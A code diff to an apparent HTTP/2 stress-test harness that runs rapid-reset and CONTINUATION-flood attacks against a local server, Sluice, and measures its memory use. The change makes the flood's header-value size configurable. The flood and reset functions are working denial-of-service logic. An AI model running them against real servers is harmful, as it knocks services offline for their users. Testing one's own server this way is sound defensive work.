@@ -147,14 +147,15 @@ def rapid_reset(address, resets, seconds, rounds, source="127.0.0.2", slices=50)
     return a
 
 
-def continuation_flood(address, megabytes, source="127.0.0.2"):
+def continuation_flood(address, megabytes, field_bytes, source="127.0.0.2"):
     a = Attacker(address, source)
-    # HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB of
-    # literal header fields (without indexing) each.
+    # HEADERS without END_HEADERS, then CONTINUATION frames of ~16 KB of
+    # literal header fields (without indexing) of `field_bytes` values each.
     a.send(h2raw.frame(h2raw.HEADERS, 0, 1,
                        h2raw.encode_headers(h2raw.request_headers(PATH))))
-    field = b"\x00" + h2raw.encode_str(b"x-flood") + h2raw.encode_str(b"v" * 16000)
-    chunk = h2raw.frame(h2raw.CONTINUATION, 0, 1, field) * 64  # ~1 MiB
+    field = b"\x00" + h2raw.encode_str(b"x-flood") + h2raw.encode_str(b"v" * field_bytes)
+    payload = field * max(1, 16000 // len(field))
+    chunk = h2raw.frame(h2raw.CONTINUATION, 0, 1, payload) * 64  # ~1 MB
     total = 0
     end = time.monotonic() + 120
     while total < megabytes * 1_000_000 and time.monotonic() < end:
@@ -286,8 +287,9 @@ routes:
             a = rapid_reset(sluice.data, args.resets, args.seconds, args.rounds)
             what = f"{args.rounds} x {args.resets} resets in {args.seconds}s"
         else:
-            a = continuation_flood(sluice.data, args.megabytes)
-            what = f"{a.sent_bytes / 1e6:.0f} MB of CONTINUATION"
+            a = continuation_flood(sluice.data, args.megabytes, args.field_bytes)
+            what = (f"{a.sent_bytes / 1e6:.0f} MB of CONTINUATION "
+                    f"({args.field_bytes}-byte header values)")
         t1 = time.monotonic()
         time.sleep(1.0)
         by_window = by.report(t0, time.monotonic())
@@ -335,6 +337,8 @@ def main():
     parser.add_argument("--seconds", type=float, default=0.5)
     parser.add_argument("--rounds", type=int, default=1)
     parser.add_argument("--megabytes", type=int, default=100)
+    parser.add_argument("--field-bytes", type=int, default=16000,
+                        help="continuation: the size of each header value")
     parser.add_argument("--hold", type=float, default=0)
     parser.add_argument("--trim", action="store_true",
                         help="then call malloc_trim(0) in Sluice (gdb) and measure again")
